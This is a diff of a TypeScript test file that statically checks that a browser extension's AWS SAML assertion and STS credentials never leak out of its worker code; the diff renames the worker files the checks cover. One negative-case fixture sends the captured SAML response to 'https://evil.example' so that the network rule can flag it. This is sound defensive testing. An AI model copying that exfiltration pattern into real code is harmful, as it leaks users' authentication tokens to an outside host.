@@ -31,9 +31,11 @@ const SIGNIN_POST = 'src/core/signin-post.ts';
 
 /**
  * The one file allowed to hand the assertion to the network besides post-form.ts: the worker's STS
- * sign-in, only as `requestAws(post.url, post, …)` with a `post` that buildAssumeRoleWithSaml (the
+ * calls, only as `requestAws(post.url, post, …)` with a `post` that buildAssumeRoleWithSaml (the
  * form POST to an STS endpoint that checkStsTarget allowed) or buildSigninTokenPost made.
  */
+const STS_CALLS = 'src/background/sts-calls.ts';
+/** The worker's sign-in through STS, which holds the credentials between the calls and the login URL. */
 const STS_SIGNIN = 'src/background/sts-signin.ts';
 /** "Get account names from AWS": the assertion without a role, as buildSigninPost allowed it. */
 const NAMES_FETCH = 'src/background/account-names.ts';
@@ -221,7 +223,7 @@ const withoutExtension = (path: string) => path.replace(/\.(?:tsx?|html)$/, '');
 
 /** `requestAws(post.url, post, …)` in the STS sign-in, with `post` from one of the two builders, in the enclosing function. */
 function isAllowedStsRequest(file: SourceFile, code: string, name: string, args: string, index: number): boolean {
-  if ((file.path !== STS_SIGNIN && file.path !== NAMES_FETCH) || name !== 'requestAws' || !STS_REQUEST.test(args)) return false;
+  if ((file.path !== STS_CALLS && file.path !== NAMES_FETCH) || name !== 'requestAws' || !STS_REQUEST.test(args)) return false;
   const enclosing = code.slice(code.lastIndexOf('function ', index), index);
   return STS_POST_ORIGIN.test(enclosing) && /\b(?:check(?:Sts|Federation)Target|buildSigninPost)\s*\(/.test(code);
 }
@@ -379,7 +381,7 @@ describe('the assertion never leaks (static analysis of src/)', () => {
  * and the CLI credentials the user asked for (their reply type, their formats, the picker's view).
  */
 const CLI_VIEW = 'src/pages/picker/CliCredentials.tsx';
-const CREDENTIAL_FILES = ['src/core/sts.ts', 'src/core/federation.ts', STS_SIGNIN, 'src/core/cli-credentials.ts', 'src/messages/protocol.ts', CLI_VIEW];
+const CREDENTIAL_FILES = ['src/core/sts.ts', 'src/core/federation.ts', STS_CALLS, STS_SIGNIN, 'src/core/cli-credentials.ts', 'src/messages/protocol.ts', CLI_VIEW];
 const CREDENTIAL_WORDS = /\b(?:secretAccessKey|sessionToken|SecretAccessKey|SessionToken|StsCredentials)\b/g;
 
 function credentialMentions(files: readonly SourceFile[]): string[] {
@@ -404,8 +406,8 @@ describe('STS credentials stay in the worker (static analysis of src/)', () => {
     expect(credentialMentions([{ path: 'src/pages/picker/x.ts', text: 'const a = reply.sessionToken;' }])).toEqual(['src/pages/picker/x.ts:1']);
   });
 
-  it('the worker stores, logs and messages none of them', () => {
-    const worker = SOURCES.find((f) => f.path === STS_SIGNIN);
+  it.each([STS_CALLS, STS_SIGNIN])('the worker (%s) stores, logs and messages none of them', (path) => {
+    const worker = SOURCES.find((f) => f.path === path);
     expect(worker).toBeDefined();
     const code = codeOnly(worker!.text);
     expect(code).not.toMatch(/\bstorage\s*\.|\bconsole\s*\.|sendMessage|postMessage/);
@@ -464,20 +466,20 @@ describe('each rule fails on a bad example', () => {
     expect(found.map((v) => `${v.path}:${v.line}`)).toEqual(['src/pages/picker/a.ts:2', 'src/pages/picker/b.ts:1', 'src/pages/picker/c.ts:2']);
   });
 
-  it('network: the STS request only from sts-signin.ts, only with a post from the builders', () => {
+  it('network: the STS request only from sts-calls.ts, only with a post from the builders', () => {
     const aws: SourceFile = { path: 'src/platform/aws-request.ts', text: 'export const requestAws = (url: string, init: object) => fetch(url, init);' };
     const header = "import { requestAws } from '../platform/aws-request';\nimport { checkStsTarget } from '../core/sts-target';\n";
     const good = `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  checkStsTarget(post.url, 'aws', 'x');\n  return requestAws(post.url, post, 1);\n}`;
-    expect(check([aws, { path: STS_SIGNIN, text: good }], 'network')).toEqual([]);
+    expect(check([aws, { path: STS_CALLS, text: good }], 'network')).toEqual([]);
     const found = check(
       [
         aws,
-        { path: STS_SIGNIN, text: `${header}async function callSts(capture: { samlResponse: string }) {\n  const post = { url: 'https://evil.example', body: capture.samlResponse };\n  return requestAws(post.url, post, 1);\n}` },
+        { path: STS_CALLS, text: `${header}async function callSts(capture: { samlResponse: string }) {\n  const post = { url: 'https://evil.example', body: capture.samlResponse };\n  return requestAws(post.url, post, 1);\n}` },
         { path: 'src/background/other.ts', text: `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  return requestAws(post.url, post, 1);\n}` },
       ],
       'network',
     );
-    expect(found.map((v) => `${v.path}:${v.line}`).sort()).toEqual(['src/background/other.ts:4', 'src/background/sts-signin.ts:5']);
+    expect(found.map((v) => `${v.path}:${v.line}`).sort()).toEqual(['src/background/other.ts:4', 'src/background/sts-calls.ts:5']);
   });
 
   it('form-post: a form elsewhere, a hand-made SigninPost, a loosened post-form.ts', () => {
